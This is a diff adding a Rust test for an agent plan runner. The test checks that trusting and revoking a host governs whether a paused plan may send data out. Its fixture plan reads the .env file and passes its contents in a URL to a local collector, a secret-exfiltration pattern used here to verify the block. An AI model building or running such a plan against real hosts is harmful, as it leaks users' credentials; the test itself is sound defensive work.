@@ -165,6 +165,30 @@ fn a_yes_for_good_holds_in_this_workspace_until_it_is_revoked() {
 }
 
 #[test]
+fn a_host_that_is_revoked_or_allowed_for_good_counts_so_in_runs_that_began_before() {
+    let (program, collector) = (program(), Collector::start(page));
+    let url = format!("http://{}/?d={{{{a}}}}", collector.host);
+    let plan = json!({"dagdeck": 1, "goal": "test", "nodes": [
+        {"id": "a", "tool": "read_file", "args": {"path": ".env"}},
+        {"id": "wait", "ask": {"text": "go on?"}, "depends_on": ["a"]},
+        {"id": "send", "tool": "fetch_url", "args": {"url": url}, "depends_on": ["wait"]},
+    ]});
+    let plan = program.file("plan.json", plan.to_string());
+    program.run(&["trust", "--host", &collector.host]).code(0);
+    program.run(&["run", &plan]).code(7);
+    program.run(&["trust", "--revoke", &collector.host]).code(0);
+    program.run(&["approve", "last", "wait"]).code(7).says(&["it may send private data to 127.0.0.1:"]);
+    assert_eq!(collector.requests(), Vec::<String>::new());
+    program.run(&["run", &plan]).code(7);
+    program.run(&["trust", "--host", &collector.host]).code(0);
+    program.run(&["approve", "last", "wait"]).code(0);
+    // A run that was over is as any other.
+    program.run(&["trust", "--revoke", &collector.host]).code(0);
+    program.run(&["rerun", "last", "send"]).code(7);
+    assert_eq!(collector.requests().len(), 1);
+}
+
+#[test]
 fn a_request_that_was_piped_is_private_and_one_that_was_typed_is_not() {
     let (program, collector) = (program(), Collector::start(page));
     let request = format!("fetch http://{}/", collector.host);
